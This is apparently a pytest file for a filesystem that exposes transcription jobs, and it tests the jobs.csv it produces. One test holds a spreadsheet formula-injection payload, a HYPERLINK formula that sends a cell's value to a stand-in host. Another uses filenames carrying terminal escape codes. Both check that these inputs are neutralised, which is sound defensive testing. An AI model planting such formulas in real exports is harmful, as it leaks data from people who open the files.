# SPDX-License-Identifier: MIT
"""SEMANTICS 8.2: jobs.csv, as the programs read it that people would open it with."""

import csv
import errno
import json
import os
import subprocess

import pytest

from mounting import needed_tools
from tools import read, run

FIXED = ["id", "created_at", "completed_at", "status", "error_code", "filename", "audio_duration",
         "billing_time", "channels", "languages", "speakers", "words"]


def rows_of(path):
    with open(path, newline="", encoding="utf-8") as file:
        return list(csv.DictReader(file, strict=True))


def text_of(value):
    return "" if value is None else str(value)


def wanted(job):
    """Returns the fixed columns of a job, as docs/SEMANTICS.md defines them."""
    file = job.get("file") or {}
    result = job.get("result") or {}
    metadata, said = result.get("metadata") or {}, result.get("transcription") or {}
    utterances = said.get("utterances") or []
    speakers = {one["speaker"] for one in utterances if "speaker" in one}
    source = (file.get("source") or "").rsplit("/", 1)[-1]
    return {
        "id": job["id"], "created_at": job["created_at"],
        "completed_at": text_of(job["completed_at"]), "status": job["status"],
        "error_code": text_of(job["error_code"]), "filename": file.get("filename") or source,
        "audio_duration": text_of(file.get("audio_duration")),
        "billing_time": text_of(metadata.get("billing_time")),
        "channels": text_of(file.get("number_of_channels")),
        "languages": ",".join(said.get("languages") or []),
        "speakers": text_of(len(speakers) or None),
        "words": text_of(sum(len(one["words"]) for one in utterances) if said else None),
    }


class TestRows:
    """SEMANTICS 8.2"""

    def test_account(self, account, mount):
        """SEMANTICS 8.2.1, 8.2.4: every directory of jobs has a line for each of its jobs."""
        one = mount(account)
        jobs = {job["id"]: job for job in account.jobs()}
        for directory in ("all", "status/done", "status/error", "status/queued",
                          f"date/{max(job['created_at'] for job in jobs.values())[:10]}"):
            files = list((one.path / directory).glob("*.json"))
            rows = rows_of(one.path / directory / "jobs.csv")
            assert len(rows) == len(files)
            for row in rows:
                job = json.loads(read(one.path / directory / f"{row['id']}.json"))
                assert {name: row[name] for name in FIXED} == wanted(job)

    def test_newest_first(self, account, mount):
        """SEMANTICS 8.2.3"""
        for order in ("newest", "oldest", "unsorted"):
            account.modes(order=order)
            times = [row["created_at"]
                     for row in rows_of(mount(account, "cache=off").path / "all/jobs.csv")]
            assert times == sorted(times, reverse=True) and len(times) == len(account.jobs())

    def test_metadata(self, mock, mount):
        """SEMANTICS 8.2.4: a column for each key, also if a fixed column has its name."""
        mock.create(custom_metadata={"user": "Zoë, \"Z\"", "n": 1.50, "id": "mine"})
        mock.create(custom_metadata={"user": "two\nlines", "tags": ["a", "b"], "a": {"b": None}})
        mock.create(custom_metadata=None)
        rows = rows_of(mount(mock).path / "all/jobs.csv")
        assert list(rows[0]) == FIXED + ["a.b", "custom_metadata.id", "n", "tags", "user"]
        users = {row["user"]: row for row in rows}
        assert set(users) == {"Zoë, \"Z\"", "two\nlines", ""}
        assert users["two\nlines"]["tags"] == "a,b" and users["two\nlines"]["a.b"] == "null"
        assert users["Zoë, \"Z\""]["custom_metadata.id"] == "mine"

    def test_formulas(self, mock, mount):
        """SEMANTICS 8.2.7: no cell is run by a spreadsheet."""
        name = '=HYPERLINK("http://example.com/"&A1,"x")'
        mock.create(filename=name, custom_metadata={"@sum": "-1+1", "n": "-5"})
        path = mount(mock).path / "all/jobs.csv"
        row, = rows_of(path)
        assert row["filename"] == "'" + name
        assert row["'@sum"] == "'-1+1" and row["n"] == "-5"

    def test_odd_characters(self, mock, mount):
        """SEMANTICS 8.2.2: it is valid UTF-8 without control characters, whatever names are."""
        mock.create(filename="a\x1b[31m\x9b.mp3")
        mock.create(filename="", source="https://example.com/%ff%1b.mp3?x=/y", text="Hello.")
        names = {row["filename"] for row in rows_of(mount(mock).path / "all/jobs.csv")}
        assert names == {"a\ufffd[31m\ufffd.mp3", "\ufffd\ufffd.mp3"}

    def test_form(self, account, mount):
        """SEMANTICS 8.2.2: CRLF, the same number of cells in each line, and no byte order mark."""
        data = read(mount(account).path / "all/jobs.csv")
        assert data.startswith(b"id,") and data.endswith(b"\r\n")
        lines = list(csv.reader(data.decode().splitlines(keepends=True), strict=True))
        assert len({len(line) for line in lines}) == 1

    def test_database(self, account, mount, tmp_path):
        """Another program that reads RFC 4180 finds the same."""
        needed_tools("sqlite3")
        path = mount(account).path / "all/jobs.csv"
        rows = run("sqlite3", tmp_path / "db", ".mode csv", f".import {path} jobs",
                   ".headers on", "SELECT * FROM jobs")
        with open(path, newline="", encoding="utf-8") as file:
            assert list(csv.reader(rows.splitlines())) == list(csv.reader(file))

    def test_summaries(self, account, mount):
        """SEMANTICS 8.2.6: a list of summaries leaves cells empty; no text is fetched for them."""
        account.modes(items="summary")
        one = mount(account)
        done = [row for row in rows_of(one.path / "all/jobs.csv") if row["status"] == "done"]
        assert all(row["filename"] and row["billing_time"] for row in done)
        assert not any(row["words"] or row["speakers"] for row in done)
        assert all(request.lists for request in one.requests())
        read(one.path / "all" / f"{done[0]['id']}.json")
        words = {row["id"]: row["words"] for row in rows_of(one.path / "all/jobs.csv")}
        assert words[done[0]["id"]] and not words[done[-1]["id"]]


class TestFile:
    """SEMANTICS 8.2"""

    def test_size(self, account, mount):
        """SEMANTICS 8.2.8: the size is exact, and stat(2) and the contents agree."""
        one = mount(account)
        path = one.path / "all/jobs.csv"
        with open(path, "rb") as file:
            assert os.fstat(file.fileno()).st_size == len(file.read())
        run("cp", path, one.path.parent / "copy.csv")
        assert read(one.path.parent / "copy.csv") == read(path)
        assert "jobs.csv" not in os.listdir(one.path / "all")

    def test_views(self, account, mount):
        """The views by name have the jobs of status/done, and so have their filters."""
        one = mount(account)
        done = read(one.path / "status/done/jobs.csv")
        day = rows_of(one.path / "status/done/jobs.csv")[0]["created_at"][:10]
        for view in ("text", "subtitles"):
            assert read(one.path / view / "jobs.csv") == done
            assert "jobs.csv" not in os.listdir(one.path / view)
            assert read(one.path / view / "date" / day / "jobs.csv") == read(
                one.path / "status/done/date" / day / "jobs.csv")

    def test_next_look(self, mock, mount):
        """SEMANTICS 8.2.5: it is as new as the listing of its directory."""
        mock.create()
        one = mount(mock, "ttl=0")
        assert len(rows_of(one.path / "all/jobs.csv")) == 1
        mock.create()
        assert len(rows_of(one.path / "all/jobs.csv")) == 2

    def test_failing_page(self, account, mount):
        """SEMANTICS 8.2.5: never a file that lacks jobs."""
        one = mount(account, "page_size=20", "timeout=2")
        account.fault_lists("status", "offset=20", status=400)
        with pytest.raises(OSError) as caught:
            read(one.path / "all/jobs.csv")
        assert caught.value.errno == errno.EIO
        account.clear_faults()
        assert len(rows_of(one.path / "all/jobs.csv")) == len(account.jobs())

    def test_cached(self, account, mount, tmp_path):
        """The file is the same after a remount."""
        one = mount(account, f"cache_dir={tmp_path}")
        before = read(one.path / "all/jobs.csv")
        one.unmount()
        again = mount(account, f"cache_dir={tmp_path}")
        assert read(again.path / "all/jobs.csv") == before

    def test_write(self, account, mount):
        path = mount(account, "allow_delete").path / "all/jobs.csv"
        with pytest.raises(OSError) as caught:
            os.unlink(path)
        assert caught.value.errno == errno.EROFS
        assert subprocess.run(["tee", path], stdin=subprocess.DEVNULL,
                              capture_output=True, check=False).returncode != 0
